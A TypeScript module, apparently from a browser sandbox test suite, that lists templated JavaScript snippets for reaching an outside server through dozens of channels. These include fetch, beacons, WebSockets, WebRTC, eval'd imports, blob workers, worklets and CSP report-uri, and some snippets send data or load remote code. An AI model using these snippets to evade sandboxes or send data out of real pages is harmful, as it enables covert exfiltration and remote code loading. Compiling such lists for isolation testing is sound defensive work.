import type { Attacks } from './attacks.ts';

/** Ways of asking another server for something. */
export const NETWORK: Attacks = {
  fetch: (there) => `await fetch('${there}');`,
  'fetch-post': (there) => `await fetch('${there}', { method: 'POST', mode: 'no-cors', body: 'data' });`,
  'fetch-keepalive': (there) => `await fetch('${there}', { keepalive: true, mode: 'no-cors' });`,
  'fetch-request': (there) => `await fetch(new Request('${there}', { credentials: 'include' }));`,
  'fetch-later': (there) => `fetchLater('${there}', { activateAfter: 0 });`,
  request: (there) => `const r = new XMLHttpRequest(); r.open('GET', '${there}'); r.send();`,
  'request-synchronous': (there) =>
    `const r = new XMLHttpRequest(); r.open('GET', '${there}', false); r.send();`,
  'request-upload': (there) => `const r = new XMLHttpRequest(); r.open('PUT', '${there}'); r.send('data');`,
  beacon: (there) => `navigator.sendBeacon('${there}', 'data');`,
  socket: (there) => `new WebSocket('${there}'.replace('http', 'ws'));`,
  'socket-stream': (there) => `new WebSocketStream('${there}'.replace('http', 'ws'));`,
  transport: (there) => `new WebTransport('${there}'.replace('http:', 'https:'));`,
  events: (there) => `new EventSource('${there}');`,
  peer: (there) =>
    `const p = new RTCPeerConnection({ iceServers: [{ urls: '${there}'.replace(/http:..(.*)[/].*/, 'stun:$1') }] });
     p.createDataChannel('x'); await p.setLocalDescription();`,
  'peer-relay': (there) =>
    `const urls = '${there}'.replace(/http:..(.*)[/].*/, 'turn:$1?transport=tcp');
     const p = new RTCPeerConnection({ iceServers: [{ urls, username: 'u', credential: 'c' }] });
     p.createDataChannel('x'); await p.setLocalDescription();`,
  'peer-old-name': (there) =>
    `const urls = '${there}'.replace(/http:..(.*)[/].*/, 'stun:$1');
     const p = new webkitRTCPeerConnection({ iceServers: [{ urls }] });
     p.createDataChannel('x'); await p.setLocalDescription();`,
  module: (there) => `await (0, eval)("import('${there}')");`,
  'module-in-function': (there) => `await new Function("return import('${there}')")();`,
  'module-of-data': (there) => `await (0, eval)("import('data:text/javascript,fetch(\\"${there}\\")')");`,
  'module-of-blob': (there) =>
    `const u = URL.createObjectURL(new Blob(["fetch('${there}')"], { type: 'text/javascript' }));
     await (0, eval)('import("' + u + '")');`,
  'late-string': (there) => `setTimeout("fetch('${there}')", 10);`,
  worker: (there) => `new Worker(URL.createObjectURL(new Blob(["fetch('${there}')"])));`,
  'worker-of-data': (there) => `new Worker("data:text/javascript,fetch('${there}')");`,
  'worker-module': (there) =>
    `new Worker(URL.createObjectURL(new Blob(["fetch('${there}')"], { type: 'text/javascript' })), { type: 'module' });`,
  'worker-there': (there) => `new Worker('${there}');`,
  'worker-imports': (there) => `new Worker(URL.createObjectURL(new Blob(["importScripts('${there}')"])));`,
  'worker-shared': (there) => `new SharedWorker(URL.createObjectURL(new Blob(["fetch('${there}')"])));`,
  'worker-service': (there) => `await navigator.serviceWorker.register('${there}');`,
  'worklet-paint': (there) => `await CSS.paintWorklet.addModule('${there}');`,
  'worklet-audio': (there) => `await new AudioContext().audioWorklet.addModule('${there}');`,
  'worklet-shared-storage': (there) => `await sharedStorage.worklet.addModule('${there}');`,
  'stream-of-wasm': (there) => `await WebAssembly.compileStreaming(fetch('${there}'));`,
  cache: (there) => `const c = await caches.open('x'); await c.add('${there}');`,
  'background-fetch': (there) =>
    `const r = await navigator.serviceWorker.ready; await r.backgroundFetch.fetch('x', ['${there}']);`,
  'payment-handler': (there) =>
    `await new PaymentRequest([{ supportedMethods: '${there}' }],
       { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment();`,
  presentation: (there) => `await new PresentationRequest(['${there}']).getAvailability();`,
  reporting: (there) =>
    `const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy';
     m.content = "img-src 'none'; report-uri ${there}"; document.head.append(m); new Image().src = 'x:y';`,
  identity: (there) =>
    `await navigator.credentials.get({ identity: { providers: [{ configURL: '${there}', clientId: 'x' }] } });`,
};
